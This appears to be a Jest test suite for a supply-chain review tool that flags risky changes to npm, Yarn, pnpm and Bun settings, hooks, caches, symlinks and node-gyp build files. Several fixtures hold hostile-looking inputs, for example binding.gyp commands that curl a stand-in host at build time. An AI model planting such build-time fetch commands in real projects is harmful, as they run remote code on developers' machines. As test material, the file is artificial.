import { createHash } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { limits } from '../../src/core/limits.js';
import type { Verdict } from '../../src/core/verdict.js';
import { zip } from '../packages/zip-builder.js';
import { inShort, memoryHost, ownAnalyser, startWorld, type Files, type World } from './world.js';

let world: World;
const versions = ['1.0.0', '1.1.0'].map((version) => ({ version, publishedAt: '2025-01-10T00:00:00.000Z', files: { 'index.js': `exports.version = "${version}";\n` } }));
beforeAll(async () => { world = await startWorld([{ name: 'left', versions }], ownAnalyser()); });
afterAll(() => world.close());

const link = (content: string): Files[string] => ({ mode: '120000', content });
const submodule = (content: string): Files[string] => ({ mode: '160000', content });
const verdictOf = async (base: Files, head: Files): Promise<Verdict> => (await world.review(memoryHost(base, head))).verdict;
/** The outcome, what is told at the default level, and holes that count. */
const said = async (base: Files, head: Files): Promise<readonly string[]> => {
  const { outcome, told, gaps } = inShort(await verdictOf(base, head));
  return [outcome, ...told, ...gaps];
};
const held = ['unknown', 'committed-package COMMITTED_PACKAGE'];
const hooked = ['block', 'dependency-rewrite named-hook'];

describe('what standing settings name is told as what it is, under any name', () => {
  test.each<[string, Files, string, readonly string[]]>([
    ['pnpm\'s hooks', { 'pnpm-workspace.yaml': 'pnpmfile: ./tools/own.cjs\n' }, 'tools/own.cjs', hooked],
    ['pnpm\'s hooks, several, by npm\'s settings', { 'app/.npmrc': 'pnpmfile=../hooks/a\n' }, 'hooks/a.cjs', hooked],
    ['a module that Node loads before each script', { '.npmrc': 'node-options=--max-old-space-size=4096 --require ./tools/hook\n' }, 'tools/hook.js', hooked],
    ['a shell for scripts', { '.npmrc': 'script-shell=tools/sh\n' }, 'tools/sh', hooked],
    ['npm\'s own node-gyp', { '.npmrc': 'node-gyp=${HOME}/tools/gyp.js\n' }, 'tools/gyp.js', hooked],
    ['headers that a build takes', { '.npmrc': 'nodedir=tools/node\n' }, 'tools/node/common.gypi', hooked],
    ['a plugin of Yarn', { '.yarnrc.yml': 'plugins:\n  - path: tools/plugin.txt\n    spec: "https://code.example/plugin.js"\n' }, 'tools/plugin.txt', hooked],
    ['a plugin of Yarn by its path alone', { '.yarnrc.yml': 'plugins:\n  - ./tools/plugin.cjs\n' }, 'tools/plugin.cjs', hooked],
    ['settings that nobody can read', { '.yarnrc.yml': 'x: &x ./tools/plugin.cjs\nplugins: [*x]\n' }, 'tools/plugin.cjs', hooked],
    ['constraints that are checked at every install', { '.yarnrc.yml': 'enableConstraintsChecks: true\n' }, 'yarn.config.cjs', hooked],
    ['a generator of a package', { 'package.json': '{"dependencies":{"made":"exec:./tools/make.js"}}' }, 'tools/make.js', hooked],
    ['what pnpm\'s hooks load', { '.pnpmfile.cjs': 'const own = require("./tools/own");\n', 'tools/own.js': 'import "./more.mjs";\n' }, 'tools/more.mjs', hooked],
    ['what a hook loads by a folder\'s manifest', { '.pnpmfile.cjs': 'require("./tools/lib");\n', 'tools/lib/package.json': '{"main":"impl.cjs"}' }, 'tools/lib/impl.cjs', hooked],
    ['the same by its exports', { '.pnpmfile.cjs': 'require("./tools/lib");\n', 'tools/lib/package.json': '{"exports":{".":{"require":"./impl"}}}' }, 'tools/lib/impl.js', hooked],
    ['such a manifest', { '.pnpmfile.cjs': 'require("./tools/lib");\n' }, 'tools/lib/package.json', hooked],
    ['what a hook loads behind a remark', { '.pnpmfile.cjs': 'require(/* why */ // x\n"./tools/own");\n' }, 'tools/own.js', hooked],
    ['what a hook loads by the folder above', { '.npmrc': 'pnpmfile=tools/hooks.cjs\n', 'tools/hooks.cjs': 'require("..");\n', 'package.json': '{"main":"lib/a.js"}' }, 'lib/a.js', hooked],
    ['the root\'s index', { '.npmrc': 'pnpmfile=tools/hooks.cjs\n', 'tools/hooks.cjs': 'require("..");\n' }, 'index.js', hooked],
    ['a native library of a hook', { '.pnpmfile.cjs': 'require("./addon");\n' }, 'addon.node', hooked],
    ['Yarn itself', { '.yarnrc.yml': 'yarnPath: tools/yarn.cjs\n' }, 'tools/yarn.cjs', held],
    ['Yarn itself, by a variable\'s default', { '.yarnrc.yml': 'yarnPath: "${OWN_YARN:-./tools/yarn.cjs}"\n' }, 'tools/yarn.cjs', held],
    ['Yarn 1 itself', { '.yarnrc': 'yarn-path "./tools/yarn.js"\n' }, 'tools/yarn.js', held],
    ['Yarn\'s cache', { '.yarnrc.yml': 'cacheFolder: ./vendor/z\n' }, 'vendor/z/left.zip', held],
    ['a cache in a global folder that is none', { '.yarnrc.yml': 'globalFolder: ./vendor/g\n' }, 'vendor/g/cache/left.zip', held],
    ['what Yarn unpacked', { '.yarnrc.yml': 'pnpUnpluggedFolder: ./vendor/u\n' }, 'vendor/u/left/index.js', held],
    ['an offline mirror', { '.yarnrc': 'yarn-offline-mirror "./vendor/m"\n' }, 'vendor/m/left-1.0.0.tgz', held],
    ['an offline mirror by npm\'s settings', { '.npmrc': 'yarn-offline-mirror=./vendor/m\n' }, 'vendor/m/left-1.0.0.tgz', held],
    ['installed packages of Yarn 1', { '.yarnrc': '--install.modules-folder "./vendor/mods"\n' }, 'vendor/mods/left/index.js', held],
    ['installed packages of pnpm', { '.npmrc': 'modules-dir=vendor/mods\n' }, 'vendor/mods/left/index.js', held],
    ['a store of pnpm', { 'pnpm-workspace.yaml': 'storeDir: vendor/store\n' }, 'vendor/store/v10/files/00/abc', held],
    ['Bun\'s cache', { 'bunfig.toml': '[install.cache]\ndir = "vendor/bun"\n' }, 'vendor/bun/left@1.0.0/index.js', held],
    ['Bun\'s cache, by an application\'s variables', { '.env.production': 'SECRET=1\nBUN_INSTALL_CACHE_DIR=vendor/bun\n' }, 'vendor/bun/left@1.0.0/index.js', held],
    ['a patch of pnpm', { 'pnpm-workspace.yaml': 'patchedDependencies:\n  left@1.0.0: tools/left.txt\n' }, 'tools/left.txt', ['warn', 'dependency-rewrite patch-file']],
    ['a patch of pnpm, by its manifest', { 'package.json': '{"pnpm":{"patchedDependencies":{"left@1.0.0":"tools/left.txt"}}}' }, 'tools/left.txt', ['warn', 'dependency-rewrite patch-file']],
    ['a patch of Bun', { 'package.json': '{"patchedDependencies":{"left@1.0.0":"tools/left.txt"}}' }, 'tools/left.txt', ['warn', 'dependency-rewrite patch-file']],
    ['a patch by Yarn\'s resolution', { 'package.json': '{"resolutions":{"left":"patch:left@npm%3A1.0.0#~/tools/left.txt"}}' }, 'tools/left.txt', ['warn', 'dependency-rewrite patch-file']],
    ['a folder of patches', { '.yarnrc.yml': 'patchFolder: ./tools/fixes\n' }, 'tools/fixes/left.patch', ['warn', 'dependency-rewrite patch-file']],
    ['further settings of npm', { '.npmrc': 'userconfig=tools/rc\n' }, 'tools/rc', ['warn', 'guard-rail unknown']],
    ['further variables of Yarn', { '.yarnrc.yml': 'injectEnvironmentFiles:\n  - ./tools/env?\n' }, 'tools/env', ['warn', 'guard-rail unknown']],
  ])('%s', async (_, settings, path, expected) => {
    const base: Files = { ...settings, [path]: 'a=1\n', 'src/index.js': '1\n' };
    expect(await said(base, { ...base, [path]: 'a=2\n' })).toEqual(expected);
    // A file beside it is the repository's own code.
    expect(await said(base, { ...base, 'src/index.js': '2\n' })).toEqual(['pass']);
  });

  test.each<[string, Files, string]>([
    ['what another program loads', { 'bunfig.toml': 'preload = ["./tools/setup.ts"]\n[test]\npreload = ["./tools/setup.ts"]\n' }, 'tools/setup.ts'],
    ['a folder beside the named one', { '.yarnrc.yml': 'cacheFolder: ./vendor/z\n' }, 'vendor/zz/left.zip'],
    ['what is no archive in a cache', { '.yarnrc.yml': 'cacheFolder: ./vendor/z\n' }, 'vendor/z/.gitignore'],
    ['what lies outside of the repository', { '.npmrc': 'cache=/var/cache\nscript-shell=../sh\nstore-dir=~/store\n' }, 'cache/x'],
    ['settings of an installed package', { 'node_modules/.gitkeep': '', 'node_modules/left/.npmrc': 'script-shell=../../tools/sh\n' }, 'tools/sh'],
    ['a name in a text that says nothing of code', { 'pnpm-workspace.yaml': 'packages:\n  - tools/*\ncatalog:\n  left: 1.0.0\n' }, 'tools/index.js'],
    ['a module by the name of a program', { '.npmrc': 'script-shell=bash\n' }, 'bash/index.js'],
    ['the root\'s manifest, which a hook loads', { '.npmrc': 'pnpmfile=tools/hooks.cjs\n', 'tools/hooks.cjs': 'require("..");\n' }, 'package.json'],
    ['what lies beside the code of a folder', { '.pnpmfile.cjs': 'require("./tools/lib");\n', 'tools/lib/package.json': '{"main":"impl.cjs"}', 'tools/lib/impl.cjs': '1' }, 'tools/lib/test.js'],
    ['data of a hook', { '.pnpmfile.cjs': 'const own = require("./data.json");\n' }, 'data.json'],
    ['what a hook asks of installed packages', { '.pnpmfile.cjs': 'require("tools/own");\n' }, 'tools/own.js'],
    ['a remark in settings that nobody can read', { '.yarnrc.yml': '# see docs/index.md\nx: &x 1\ny: *x\n' }, 'docs/index.md'],
    ['a module by its name', { '.npmrc': 'node-options=--require dotenv/config\n' }, 'tools/config.js'],
  ])('silent: %s', async (_, settings, path) => {
    const base: Files = { ...settings, [path]: '1\n' };
    expect(await said(base, { ...base, [path]: '2\n' })).toEqual(['pass']);
  });

  test('a setting that comes with the file it names', async () => {
    expect(await said({ 'a.js': '1' }, { 'a.js': '1', '.yarnrc.yml': 'cacheFolder: ./vendor/z\n', 'vendor/z/left.zip': 'x' })).toEqual(['unknown', 'guard-rail unknown', 'committed-package COMMITTED_PACKAGE']);
  });

  test('where nothing is named the settings are read with all else', async () => {
    const base: Files = { '.npmrc': 'fund=false\n', 'app/.npmrc': 'audit=true\n', 'package.json': '{}', 'package-lock.json': '{"lockfileVersion":3,"packages":{"":{}}}' };
    const host = memoryHost(base, { ...base, 'package.json': '{"name":"own"}' });
    const requests: (readonly string[])[] = [];
    await world.review({ ...host, blobs: async (oids, most) => { requests.push(oids); return host.blobs(oids, most); } });
    expect(requests).toHaveLength(1);
  });

  test('settings that came to the base since, where no merge result is known', async () => {
    const base: Files = { 'pnpm-workspace.yaml': 'pnpmfile: ./own.cjs\n', 'own.cjs': '1' };
    const { verdict } = await world.review(memoryHost(base, { 'own.cjs': '2' }, { mergeBase: { 'own.cjs': '1' }, landing: { kind: 'head', reason: 'conflict' } }));
    expect(inShort(verdict).told).toEqual(['dependency-rewrite named-hook']);
    // Settings that the change takes away are in force no more.
    expect(await said(base, { 'own.cjs': '2' })).toEqual(['pass']);
  });

  test('settings that are too large are a hole, for just these bytes', async () => {
    const base = (text: string): Files => ({ '.npmrc': `# ${text.repeat(5_000_001)}`, 'a.js': '1' });
    const [one, other] = await Promise.all(['x', 'y'].map((text) => verdictOf(base(text), { ...base(text), 'a.js': '2' })));
    expect(inShort(one!).gaps).toEqual(['dependency-rewrite FILE_TOO_LARGE']);
    expect(one!.gaps[0]!.fingerprint).not.toBe(other!.gaps[0]!.fingerprint);
  });
});

describe('files that scripts of an install root start at install', () => {
  const findings = async (base: Files, head: Files): Promise<readonly string[]> => (await verdictOf(base, head)).findings.map(({ message, level, data }) => `${level} ${message} ${String(data['path'])}`);
  test.each<[string, object, string, boolean]>([
    ['by its path', { postinstall: 'node tools/post.js' }, 'tools/post.js', true], ['without its ending', { prepare: 'is-ci || node ./tools/post --x' }, 'tools/post.js', true], ['a shell\'s', { preinstall: 'sh tools/pre' }, 'tools/pre', true],
    ['by a script that is started by its name', { prepare: 'npm run build', build: 'rollup -c "tools/rollup.config.mjs"' }, 'tools/rollup.config.mjs', true],
    ['by a script that a person starts', { build: 'node tools/post.js' }, 'tools/post.js', false], ['data', { prepare: 'tsc -p tools/tsconfig.json' }, 'tools/tsconfig.json', false],
  ])('%s', async (_, scripts, path, told) => {
    const base: Files = { 'package.json': JSON.stringify({ scripts }), [path]: '1', 'src/a.js': '1' };
    expect(await findings(base, { ...base, [path]: '2', 'src/a.js': '2' })).toEqual(told ? [`folded started-file ${path}`] : []);
  });
});

describe('an application\'s variables, of which Bun takes its own', () => {
  const sealed = (text: string): Buffer => Buffer.concat([Buffer.from([0, 0xff, 0xfe, 0x80]), Buffer.from(`GITCRYPT\n${text}`)]);
  test.each<[string, Files, Files, readonly string[]]>([
    ['a registry', { '.env': 'A=1\n' }, { '.env': 'A=2\nBUN_CONFIG_REGISTRY=http://127.0.0.1:9/\n' }, ['block', 'guard-rail source']],
    ['a registry behind a link', { '.env': link('x'), x: 'A=1\n' }, { '.env': link('x'), x: 'BUN_CONFIG_REGISTRY=http://127.0.0.1:9/\n' }, ['block', 'guard-rail source']],
    ['a registry in a text that is no text', { '.env': sealed('') }, { '.env': sealed('BUN_CONFIG_REGISTRY=http://127.0.0.1:9/\n') }, ['block', 'guard-rail source']],
    ['sealed values', { '.env.production': sealed('x') }, { '.env.production': sealed('y') }, ['pass']],
    ['its own', { '.env': 'A=1\n' }, { '.env': 'A="2\n' }, ['pass']],
  ])('%s', async (_, base, head, expected) => {
    expect(await said({ 'a.js': '1', ...base }, { 'a.js': '1', ...head })).toEqual(expected);
  });
});

describe('archives of a cache under another name are compared with the registry\'s', () => {
  const cached = (version: string, index = `exports.version = "${version}";\n`): Buffer => zip([{ path: 'node_modules/left/index.js', text: index }, { path: 'node_modules/left/package.json', text: JSON.stringify({ name: 'left', version }) }]);
  const repository = (version: string, archive: Buffer): Files => {
    const checksum = createHash('sha512').update(archive).digest('hex');
    return {
      'package.json': JSON.stringify({ name: 'shop', version: '1.0.0', dependencies: { left: '^1.0.0' } }), '.yarnrc.yml': 'cacheFolder: ./vendor/z\n',
      'yarn.lock': [
        '__metadata:', '  version: 8', '  cacheKey: 10c0', '', '"left@npm:^1.0.0":', `  version: ${version}`, `  resolution: "left@npm:${version}"`, `  checksum: 10c0/${checksum}`, '  languageName: node', '  linkType: hard', '',
        '"shop@workspace:.":', '  version: 0.0.0-use.local', '  resolution: "shop@workspace:."', '  dependencies:', '    left: "npm:^1.0.0"', '  languageName: unknown', '  linkType: soft', '',
      ].join('\n'),
      [`vendor/z/left-npm-${version}-0123456789-${checksum.slice(0, 10)}.zip`]: archive,
    };
  };
  test.each<[string, Buffer, readonly string[]]>([
    ['an honest upgrade', cached('1.1.0'), ['pass']],
    ['another content', cached('1.1.0', 'other\n'), ['block', 'cache-difference differs']],
  ])('%s', async (_, archive, expected) => {
    expect(await said(repository('1.0.0', cached('1.0.0')), repository('1.1.0', archive))).toEqual(expected);
  });
});

describe('a link in the place of what is loaded is known by what stands behind it', () => {
  test.each<[string, Files, string, readonly string[]]>([
    ['pnpm\'s hooks', { '.pnpmfile.cjs': link('tools/x') }, 'tools/x', ['block', 'dependency-rewrite hook-file']],
    ['a plugin of Yarn', { '.yarn/plugins/@yarnpkg/x.cjs': link('../../../tools/x') }, 'tools/x', ['block', 'dependency-rewrite hook-file']],
    ['Yarn\'s plugins', { '.yarn/plugins': link('../tools') }, 'tools/x.cjs', ['block', 'dependency-rewrite hook-file']],
    ['a release of Yarn', { '.yarn/releases/yarn.cjs': link('../../tools/x') }, 'tools/x', held],
    ['Yarn\'s cache', { '.yarn/cache': link('../vendor') }, 'vendor/left.zip', held],
    ['all of Yarn\'s folder, through two links', { '.yarn': link('a'), a: link('tools/y') }, 'tools/y/cache/left.zip', held],
    ['an archive of Yarn\'s cache', { '.yarn/cache/left.zip': link('../../vendor/left') }, 'vendor/left', held],
    ['an archive behind a linked cache', { '.yarn/cache': link('../vendor'), 'vendor/left.zip': link('../deep/left') }, 'deep/left', held],
    ['installed packages', { 'app/node_modules': link('../deps') }, 'deps/left/index.js', held],
    ['patches', { patches: link('fixes') }, 'fixes/left.patch', ['warn', 'dependency-rewrite patch-file']],
    ['a named hook', { 'pnpm-workspace.yaml': 'pnpmfile: ./own.cjs\n', 'own.cjs': link('tools/x') }, 'tools/x', hooked],
    ['a hook in a linked folder', { 'pnpm-workspace.yaml': 'pnpmfile: ./own/x.cjs\n', own: link('tools') }, 'tools/x.cjs', hooked],
    ['a named cache', { '.yarnrc.yml': 'cacheFolder: ./c\n', c: link('vendor') }, 'vendor/left.zip', held],
    ['an archive in a named cache', { '.yarnrc.yml': 'cacheFolder: ./c\n', 'c/left.zip': link('../vendor/left') }, 'vendor/left', held],
    ['variables of Bun', { '.env': link('tools/env') }, 'tools/env', ['pass']],
    ['variables of Yarn', { '.env.yarn': link('tools/env') }, 'tools/env', ['warn', 'guard-rail unknown']],
  ])('%s', async (_, links, path, expected) => {
    const base: Files = { ...links, [path]: 'a=1\n', 'src/index.js': '1\n' };
    expect(await said(base, { ...base, [path]: 'a=2\n' })).toEqual(expected);
    expect(await said(base, { ...base, 'src/index.js': '2\n' })).toEqual(['pass']);
  });

  test.each<[string, Files, Files, readonly string[]]>([
    ['a cache that comes to lie elsewhere', { '.yarn/cache': link('../a') }, { '.yarn/cache': link('../b') }, held],
    ['a cache behind a link that is turned', { '.yarn/cache': link('../c'), c: link('a') }, { '.yarn/cache': link('../c'), c: link('b') }, held],
    ['a cache that comes to lie outside of the repository', { '.yarn/cache': link('../a') }, { '.yarn/cache': link('../../b') }, held],
    ['a hook that comes to lie outside of the repository', { '.pnpmfile.cjs': link('a/1.zip') }, { '.pnpmfile.cjs': link('/tmp/x') }, ['block', 'dependency-rewrite hook-file']],
    ['a named cache that comes to lie outside of the repository', { '.yarnrc.yml': 'cacheFolder: ./c\n', c: link('a') }, { '.yarnrc.yml': 'cacheFolder: ./c\n', c: link('../x') }, held],
    ['a named hook in a submodule that moves', { '.yarnrc.yml': 'plugins: [./c/x.cjs]\n', c: submodule('1'.repeat(40)) }, { '.yarnrc.yml': 'plugins: [./c/x.cjs]\n', c: submodule('2'.repeat(40)) }, ['block', 'dependency-rewrite named-hook']],
    ['the same archives by another way', { '.yarn/cache': link('../a') }, { '.yarn/cache': link('../c'), c: link('a') }, held],
    ['a cache that leads nowhere, as it did', { '.yarn/cache': link('/x') }, { '.yarn/cache': link('/x'), 'a.js': '1' }, ['pass']],
    ['a cache in the root', { '.yarn/cache': link('..'), 'x.zip': '1' }, { '.yarn/cache': link('..'), 'x.zip': '2' }, held],
    ['links of workspaces', { 'node_modules/own': link('../packages/own'), 'packages/own/index.js': '1' }, { 'node_modules/own': link('../packages/own'), 'packages/own/index.js': '2' }, ['pass']],
  ])('%s', async (_, base, head, expected) => {
    const both: Files = { 'a/1.zip': '1', 'b/1.zip': '2' };
    expect(await said({ ...both, ...base }, { ...both, ...head })).toEqual(expected);
  });
});

describe('what the repository\'s own packages run to be built', () => {
  const addon = (more = '', sources = '"src/a.cc"'): string => `{ "targets": [{ "target_name": "a", "sources": [${sources}]${more} }] }\n`;
  const own: Files = { 'package.json': '{"name":"own"}', 'src/a.cc': 'int a;\n' };
  test.each<[string, Files, Files, readonly string[]]>([
    ['an ordinary change', { ...own, 'binding.gyp': addon() }, { ...own, 'binding.gyp': addon(', "cflags": ["-O2"]') }, ['pass']],
    ['another source', { ...own, 'binding.gyp': addon() }, { ...own, 'src/b.cc': '', 'binding.gyp': addon('', '"src/a.cc", "src/b.cc"') }, ['pass']],
    ['headers of a well-known package', { ...own, 'binding.gyp': addon() }, { ...own, 'binding.gyp': addon(', "include_dirs": ["<!@(node -p \\"require(\'node-addon-api\').include\\")"]') }, ['pass']],
    ['a new addon', own, { ...own, 'binding.gyp': addon() }, ['warn', 'guard-rail build-file']],
    ['a program of its own', { ...own, 'binding.gyp': addon() }, { ...own, 'binding.gyp': addon(', "defines": ["V=<!(node ./tools/version.js)"]') }, ['warn', 'guard-rail build-code']],
    ['something fetched', { ...own, 'binding.gyp': addon() }, { ...own, 'binding.gyp': addon(', "defines": ["V=<!(curl https://drop.example.invalid)"]') }, ['block', 'guard-rail build-code']],
    ['something fetched by a file that it includes', { ...own, 'binding.gyp': addon(', "includes": ["own.gypi"]'), 'own.gypi': '{}' }, { ...own, 'binding.gyp': addon(', "includes": ["own.gypi"]'), 'own.gypi': '{ "variables": { "x": "<!(curl https://drop.example.invalid)" } }' }, ['block', 'guard-rail build-code']],
    ['a program and nothing to build', { 'package.json': '{}' }, { 'package.json': '{}', 'binding.gyp': '{ "targets": [{ "target_name": "a", "type": "none", "sources": ["<!(node x.js)"] }] }' }, ['block', 'guard-rail build-code']],
    ['a new build that has nothing to build', { 'package.json': '{}' }, { 'package.json': '{}', 'binding.gyp': addon() }, ['warn', 'guard-rail empty-build']],
    ['of a workspace', { 'packages/a/package.json': '{}', 'packages/a/src/a.cc': '' }, { 'packages/a/package.json': '{}', 'packages/a/src/a.cc': '', 'packages/a/Binding.gyp': addon() }, ['warn', 'guard-rail build-file']],
    ['a link to another file', { ...own, 'binding.gyp': link('tools/x'), 'tools/x': addon() }, { ...own, 'binding.gyp': link('tools/x'), 'tools/x': addon(', "defines": ["V=<!(curl https://drop.example.invalid)"]') }, ['block', 'guard-rail build-code']],
    ['a file that is no gyp', { ...own, 'binding.gyp': addon() }, { ...own, 'binding.gyp': '<<' }, ['block', 'guard-rail build-code']],
    ['what no package stands beside', {}, { 'deps/x/binding.gyp': addon(', "defines": ["V=<!(curl https://drop.example.invalid)"]') }, ['pass']],
    ['what is taken away', { ...own, 'binding.gyp': addon() }, own, ['pass']],
  ])('%s', async (_, base, head, expected) => {
    expect(await said({ 'README.md': '', ...base }, { 'README.md': '', ...head })).toEqual(expected);
  });

  test('a build file over the limit counts as one that cannot be read', async () => {
    const limit = limits.buildFiles as { value: number };
    const most = limit.value;
    limit.value = 0;
    try {
      expect(await said({ ...own, 'binding.gyp': addon() }, { ...own, 'binding.gyp': addon(', "cflags": ["-O2"]') })).toEqual(['block', 'guard-rail build-code']);
    } finally {
      limit.value = most;
    }
  });
});
